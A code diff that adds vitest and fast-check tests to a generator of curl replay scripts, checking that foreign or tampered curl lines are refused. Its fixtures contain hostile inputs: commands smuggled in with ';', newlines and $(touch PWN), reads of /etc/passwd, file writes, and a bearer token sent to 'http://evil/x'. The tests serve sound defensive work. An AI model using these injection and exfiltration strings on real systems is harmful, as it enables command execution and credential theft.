@@ -2,7 +2,12 @@ import { execFile, execFileSync } from 'node:child_process';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { promisify } from 'node:util';
+import fc from 'fast-check';
 import { expect, it } from 'vitest';
+import { curlTrouble } from '../../client/curl/curl-trouble.ts';
+import { curlOf } from '../../client/curl.ts';
+import type { Exchange } from '../../client/exchange.ts';
+import { acceptedCurlLine } from './accepted-curl-line.ts';
 import { curlScript } from './curl-script.ts';
 
 interface Recorded {
@@ -33,6 +38,15 @@ const recorded = (
   responseBody,
   curl: `curl -sS -i -X ${method}${body === undefined ? '' : ` --data-binary '${body}'`} '${base}${path}'`,
 });
+const blank: Omit<Exchange, 'request' | 'actor'> = {
+  seq: 1,
+  startedMs: 0,
+  ms: 1,
+  response: null,
+  failure: null,
+  json: undefined,
+  frames: null,
+};
 const hasCurl = ((): boolean => {
   try {
     execFileSync('curl', ['--version']);
@@ -90,4 +104,76 @@ it('a sequence that rests on no answer is left as it was', () => {
   const text = script([recorded('http://s', 1, 'GET', '/x', '{}')], 'http://s');
   expect(text).toMatch(/^curl -sS -i -X GET "\$SERVER"'\/x'$/m);
   expect(text).not.toMatch(/mktemp|tee/);
+});
+
+const foreign = (curl: unknown, over: Partial<Recorded> = {}): Recorded => ({
+  ...recorded('http://s', 1, 'GET', '/x', null),
+  ...over,
+  curl: curl as string,
+});
+
+it.each([
+  ['another command', "touch PWN; curl -sS -i -X GET 'http://s/x'"],
+  ['a command behind it', "curl -sS -i -X GET 'http://s/x'; touch PWN"],
+  ['a command on the next line', "curl -sS -i -X GET 'http://s/x'\ntouch PWN"],
+  ['a command in a word', `curl -sS -i -X GET -H "a: $(touch PWN)" 'http://s/x'`],
+  ['a command in a number', `curl -sS -i -X GET -H 'a'"$(printf '\\001'; touch PWN)"'' 'http://s/x'`],
+  ['a line that was cut', "curl -sS -i -X GET --data-raw 'a… (9000 characters)"],
+  ['a file to read', "curl -sS -i -X POST --data-binary '@/etc/passwd' 'http://s/x'"],
+  ['a file to read, quoted twice', "curl -sS -i -X POST --data-binary '''@/etc/passwd' 'http://s/x'"],
+  ['headers of a file', "curl -sS -i -X GET -H '@/etc/passwd' 'http://s/x'"],
+  ['a file to write', "curl -sS -i -X GET -o 'PWN' 'http://s/x'"],
+  ['a file of options', "curl -sS -i -K 'x' -X GET 'http://s/x'"],
+  ['another server', `curl -sS -i -X GET -H "Authorization: Bearer $TOKEN" 'http://evil/x'`],
+  ['another server behind user information', "curl -sS -i -X GET 'http://s@evil/x'"],
+  ['a second server', "curl -sS -i -X GET 'http://evil/x' 'http://s/x'"],
+  ['a file of the disk', "curl -sS -i -X GET 'file:///etc/passwd'"],
+  ['no text', 7],
+])('a report with %s in place of a curl line sends nothing', (_name, curl) => {
+  const text = script([foreign(curl)], 'http://s');
+  expect(text).toMatch(/^# not sent: /m);
+  expect(text.split('\n').filter((line) => !/^(#.*|SERVER=.*|: .*|)$/.test(line))).toEqual([]);
+});
+
+it.each([['http://s$(touch PWN)'], ['http://s"; touch PWN; "'], ['http://s}\ntouch PWN'], ['file:///'], ['x']])(
+  'the address %j of a foreign report is not written into the script',
+  (base) => {
+    const text = script([foreign(`curl -sS -i -X GET '${base}/x'`)], base);
+    expect(text).not.toContain('SERVER=');
+    expect(text).toMatch(/^: "\$\{SERVER:\?/m);
+    expect(text).toMatch(/^# not sent: /m);
+  },
+);
+
+it('a comment of a foreign report stays on its line', () => {
+  const text = script([foreign("curl -sS -i -X GET 'http://s/x'", { actor: 'a\ntouch PWN\r\n\u2028' })], 'http://s');
+  expect(text).toContain('# 1. a\\ntouch PWN\\r\\n\\u2028: GET /x, was 200\n');
+});
+
+it('every line that planecheck writes is taken', () => {
+  fc.assert(
+    fc.property(
+      fc.record({
+        method: fc.oneof(fc.constantFrom('GET', 'HEAD', 'POST'), fc.string({ minLength: 1 })),
+        path: fc.string({ unit: 'binary' }),
+        headers: fc.array(fc.tuple(fc.constantFrom('Authorization', 'X-A', 'Accept'), fc.string({ unit: 'binary' }))),
+        body: fc.option(
+          fc.oneof(
+            fc.uint8Array(),
+            fc.string({ unit: 'binary' }).map((text) => Buffer.from(text)),
+          ),
+        ),
+        actor: fc.constantFrom('admin', 'anonymous'),
+        base: fc.constantFrom('http://s', 'https://s:6443/prefix'),
+      }),
+      ({ method, path, headers, body, actor, base }) => {
+        const request = { method, url: `${base}/${path}`, path, headers, body };
+        fc.pre(curlTrouble(request, base) === null);
+        const line = curlOf({ ...blank, actor, request });
+        const accepted = acceptedCurlLine(line);
+        expect(accepted && accepted.before + accepted.url).toBe(line);
+      },
+    ),
+    { numRuns: 300 },
+  );
 });
